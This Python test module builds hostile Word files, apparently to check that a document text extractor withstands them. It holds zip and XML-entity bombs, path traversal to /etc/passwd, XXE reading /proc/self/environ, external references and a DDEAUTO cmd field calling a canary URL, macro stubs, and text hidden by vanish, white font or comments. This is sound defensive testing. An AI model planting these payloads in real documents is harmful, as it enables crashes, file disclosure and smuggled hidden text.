"""Word files (ECMA-376) with bombs, lies, outside references, macros and text that is not seen."""

from __future__ import annotations

import zipfile

from tests.hostile.case import HIDDEN, SECRET, TASK, Canary, Case, fixed
from tests.hostile.package import bomb, flagged, overlapping, packed, with_lying_sizes, with_wrong_crc

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
ROOT_RELS = f'<?xml version="1.0"?><Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{R}/officeDocument" Target="word/document.xml"/></Relationships>'
NOTICE = f"<w:p><w:r><w:t>关于开展安全检查的通知</w:t></w:r></w:p><w:p><w:r><w:t>(一){TASK}</w:t></w:r></w:p>"


def document(body: str, prolog: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'


def parts(body: str = NOTICE, *, prolog: str = "") -> dict[str, str | bytes]:
    return {"[Content_Types].xml": TYPES, "_rels/.rels": ROOT_RELS, "word/document.xml": document(body, prolog)}


def docx(body: str = NOTICE, *, prolog: str = "") -> bytes:
    return packed(parts(body, prolog=prolog))


def relations(*targets: tuple[str, str, bool]) -> str:
    rows = "".join(
        f'<Relationship Id="r{number}" Type="{R}/{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if outside else ""}/>'
        for number, (kind, target, outside) in enumerate(targets, 1)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{rows}</Relationships>'


def _with_relations(*targets: tuple[str, str, bool]) -> bytes:
    return packed({**parts(), "word/_rels/document.xml.rels": relations(*targets)})


def _hidden(properties: str) -> bytes:
    return docx(NOTICE + f"<w:p><w:r><w:rPr>{properties}</w:rPr><w:t>{HIDDEN}</w:t></w:r></w:p>")


def _external(canary: Canary) -> bytes:
    kinds = ("image", "attachedTemplate", "oleObject", "subDocument", "frame", "hyperlink", "afChunk", "settings")
    return _with_relations(*((kind, canary.url, True) for kind in kinds), *((kind, canary.file_url, True) for kind in kinds))


def _table(cells: str) -> bytes:
    return docx(NOTICE + f"<w:tbl><w:tr>{cells}</w:tr></w:tbl>")


CELL = "<w:tc><w:p><w:r><w:t>甲</w:t></w:r></w:p></w:tc>"
LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
QUADRATIC = "<!DOCTYPE x [<!ENTITY a '" + "a" * 50_000 + "'>]>"

BOMBS = (
    Case("炸弹-正文.docx", "P-04", lambda _: bomb({"[Content_Types].xml": TYPES, "_rels/.rels": ROOT_RELS}, "word/document.xml", 300), ("too_large",)),
    Case("炸弹-未用.docx", "P-04", lambda _: bomb(parts(), "word/media/image1.bin", 300), ("taken", "too_large")),
    Case("炸弹-一节点.docx", "P-04", lambda _: docx(f"<w:p><w:r><w:t>{'a' * 30_000_000}</w:t></w:r></w:p>"), ("too_large", "malformed")),
    Case("炸弹-多节点.docx", "P-04", lambda _: docx("<w:p/>" * 2_500_000), ("too_large", "no_text", "parser_memory", "parser_timeout")),
    Case("炸弹-谎报.docx", "P-04", lambda _: with_lying_sizes(bomb(parts(), "word/styles.xml", 300)), ("malformed", "too_large", "taken")),
    Case("炸弹-重叠.docx", "P-04", lambda _: overlapping("word/document.xml", 2000, 50), ("malformed", "too_large", "binary_file")),
    Case("炸弹-成员.docx", "P-04", lambda _: packed({**parts(), **{f"word/x{n}.xml": "" for n in range(6000)}}, zipfile.ZIP_STORED), ("too_large",)),
    Case("炸弹-实体.docx", "P-08", fixed(docx(NOTICE + "&a9;", prolog=LAUGHS)), ("malformed",)),
    Case("炸弹-二次.docx", "P-08", fixed(docx(NOTICE + "&a;" * 20_000, prolog=QUADRATIC)), ("malformed",)),
    Case("炸弹-嵌套.docx", "P-11", lambda _: docx("<w:p>" * 200_000 + "</w:p>" * 200_000), ("malformed",)),
    Case("炸弹-嵌套表.docx", "P-17", lambda _: docx(NOTICE + "<w:tbl><w:tr><w:tc>" * 3000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3000), ("malformed", "taken", "parser_failed")),
    Case("炸弹-嵌套60表.docx", "P-17", fixed(docx(NOTICE + "<w:tbl><w:tr><w:tc>" * 60 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 60)), ("malformed", "taken")),
    Case("炸弹-跨列.docx", "P-17", fixed(_table('<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p/></w:tc>' + CELL)), present=(TASK,)),
    Case("炸弹-跨列多.docx", "P-17", fixed(_table('<w:tc><w:tcPr><w:gridSpan w:val="99999"/></w:tcPr><w:p/></w:tc>' * 500)), present=(TASK,)),
    Case("炸弹-跨列负.docx", "P-17", fixed(_table('<w:tc><w:tcPr><w:gridSpan w:val="-3"/></w:tcPr><w:p/></w:tc>' + CELL)), present=(TASK,)),
    Case("炸弹-列宽.docx", "P-17", fixed(_table('<w:trPr><w:gridBefore w:val="2000000000"/></w:trPr>' + CELL)), present=(TASK,)),
    Case("炸弹-竖并.docx", "P-17", fixed(docx(NOTICE + "<w:tbl>" + ('<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>' + CELL + "</w:tr>") * 3000 + "</w:tbl>")), present=(TASK,)),
)

LIES = (
    Case("滑路.docx", "P-05", fixed(packed({**parts(), "../../../../tmp/滑出.txt": "x", "/etc/滑出": "x", "C:\\滑出.txt": "x"})), present=(TASK,)),
    Case("滑路链接.docx", "P-05", fixed(_with_relations(("image", "../../../../../etc/passwd", False))), present=(TASK,), absent=("root:",)),
    Case("同名.docx", "P-05", lambda _: packed({**parts(), "WORD/DOCUMENT.XML": document(f"<w:p><w:r><w:t>{HIDDEN}</w:t></w:r></w:p>")}), present=(TASK,), absent=(HIDDEN,)),
    Case("截断.docx", "P-06", fixed(docx()[:-30]), ("malformed", "binary_file")),
    Case("截半.docx", "P-06", fixed(docx()[:300]), ("malformed", "binary_file")),
    Case("校验.docx", "P-06", fixed(with_wrong_crc(docx())), ("malformed",)),
    Case("加密.docx", "P-06", fixed(flagged(docx(), 1)), ("encrypted",)),
    Case("加密容器.docx", "P-06", fixed(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1528) + "EncryptedPackage".encode("utf-16-le") + bytes(999)), ("encrypted", "malformed", "binary_file", "missing_extra")),
    Case("无正文.docx", "P-06", fixed(packed({"[Content_Types].xml": TYPES, "_rels/.rels": ROOT_RELS})), ("malformed", "binary_file")),
    Case("空包.docx", "P-06", fixed(b"PK\x05\x06" + bytes(18)), ("malformed", "binary_file")),
    Case("坏xml.docx", "P-06", fixed(packed({**parts(), "word/document.xml": document(NOTICE)[:-20]})), ("malformed",)),
    Case("坏编码.docx", "P-06", fixed(packed({**parts(), "word/document.xml": document(NOTICE).encode("gbk")})), ("malformed",)),
    Case("非法字符.docx", "P-03", fixed(docx(NOTICE + "<w:p><w:r><w:t>&#x0;&#xD800;</w:t></w:r></w:p>")), ("malformed",)),
    Case("坏样式.docx", "P-06", fixed(packed({**parts(), "word/styles.xml": "<x"})), ("taken", "malformed")),
    Case("样式成环.docx", "P-13", fixed(packed({
        **parts(NOTICE + '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>环</w:t></w:r></w:p>'),
        "word/_rels/document.xml.rels": relations(("styles", "styles.xml", False)),
        "word/styles.xml": f'<w:styles xmlns:w="{W}"><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>',
    })), present=(TASK,)),
    Case("编号疯.docx", "P-17", fixed(packed({
        **parts(NOTICE + '<w:p><w:pPr><w:numPr><w:ilvl w:val="999999999999"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>项</w:t></w:r></w:p>'),
        "word/_rels/document.xml.rels": relations(("numbering", "numbering.xml", False)),
        "word/numbering.xml": f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="999999999999"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1%2%3%9、"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>',
    })), present=(TASK,)),
    Case("坏数.docx", "P-12", fixed(_table(f'<w:tc><w:tcPr><w:gridSpan w:val="{"9" * 6000}"/></w:tcPr><w:p/></w:tc>')), present=(TASK,)),
    Case("多正文.docx", "P-06", fixed(docx(NOTICE + "</w:body><w:body>" + NOTICE)), ("taken", "malformed")),
    Case("压缩法.docx", "P-06", lambda _: packed(parts(), zipfile.ZIP_LZMA), ("taken", "malformed")),
)

OUTSIDE = (
    Case("外部关系.docx", "P-10", _external, present=(TASK,), absent=(SECRET,)),
    Case("外部实体.docx", "P-09", lambda canary: docx(NOTICE + "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", prolog=f'<!DOCTYPE x [<!ENTITY x SYSTEM "{canary.file_url}">]>'), ("malformed",), absent=(SECRET,)),
    Case("外部DTD.docx", "P-10", lambda canary: docx(prolog=f'<!DOCTYPE x SYSTEM "{canary.url}">'), ("malformed",)),
    Case("参数实体.docx", "P-09", lambda canary: docx(prolog=f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{canary.url}">%p;]>'), ("malformed",)),
    Case("环境实体.docx", "P-09", fixed(docx(NOTICE + "&x;", prolog='<!DOCTYPE x [<!ENTITY x SYSTEM "file:///proc/self/environ">]>')), ("malformed",), absent=("PATH=",)),
    Case("样式表.docx", "P-10", lambda canary: packed({**parts(), "word/document.xml": f'<?xml-stylesheet href="{canary.url}"?>' + document(NOTICE).partition("?>")[2]}), present=(TASK,)),
    Case("包含.docx", "P-09", lambda canary: docx(NOTICE + f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary.file_url}" parse="text"/>'), present=(TASK,), absent=(SECRET,)),
    Case("属性实体.docx", "P-09", lambda canary: packed({**parts(), "docProps/core.xml": f'<!DOCTYPE x [<!ENTITY x SYSTEM "{canary.file_url}">]><x>&x;</x>'}), ("taken", "malformed"), absent=(SECRET,)),
    Case("域代码.docx", "P-10", lambda canary: docx(NOTICE + f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{canary.path}&quot;"><w:r><w:t>域</w:t></w:r></w:fldSimple><w:r><w:instrText>DDEAUTO cmd {canary.url}</w:instrText></w:r></w:p>'), present=(TASK,), absent=(SECRET, "DDEAUTO")),
    Case("块.docx", "P-16", fixed(packed({**parts(NOTICE + '<w:altChunk r:id="r1"/>'), "word/_rels/document.xml.rels": relations(("aFChunk", "x.html", False)), "word/x.html": f"<script>{HIDDEN}</script>"})), present=(TASK,), absent=(HIDDEN,)),
    Case("宏.docm", "P-16", fixed(packed({**parts(), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + HIDDEN.encode()})), ("taken", "unsupported_format"), absent=(HIDDEN,)),
    Case("宏.docx", "P-16", fixed(packed({**parts(), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + HIDDEN.encode()})), present=(TASK,), absent=(HIDDEN,)),
    Case("对象.docx", "P-16", fixed(packed({**parts(), "word/embeddings/oleObject1.bin": HIDDEN.encode() * 9})), present=(TASK,), absent=(HIDDEN,)),
)

UNSEEN = tuple(
    Case(f"隐藏-{name}.docx", "P-21", fixed(_hidden(properties)), present=(TASK,), absent=(HIDDEN,))
    for name, properties in (
        ("隐藏", "<w:vanish/>"),
        ("白字", '<w:color w:val="FFFFFF"/>'),
        ("一磅", '<w:sz w:val="2"/>'),
        ("网页隐藏", "<w:webHidden/><w:vanish/>"),
        ("近白", '<w:color w:val="FEFEFE"/>'),
    )
) + (
    Case("隐藏-已删.docx", "P-21", fixed(docx(NOTICE + f"<w:p><w:del><w:r><w:delText>{HIDDEN}</w:delText></w:r></w:del></w:p>")), present=(TASK,), absent=(HIDDEN,)),
    Case("隐藏-批注.docx", "P-21", fixed(packed({**parts(), "word/comments.xml": f'<w:comments xmlns:w="{W}"><w:comment w:id="1"><w:p><w:r><w:t>{HIDDEN}</w:t></w:r></w:p></w:comment></w:comments>'})), present=(TASK,), absent=(HIDDEN,)),
    Case("隐藏-自定义.docx", "P-21", fixed(packed({**parts(), "customXml/item1.xml": f"<x>{HIDDEN}</x>"})), present=(TASK,), absent=(HIDDEN,)),
)


CASES = (*BOMBS, *LIES, *OUTSIDE, *UNSEEN)
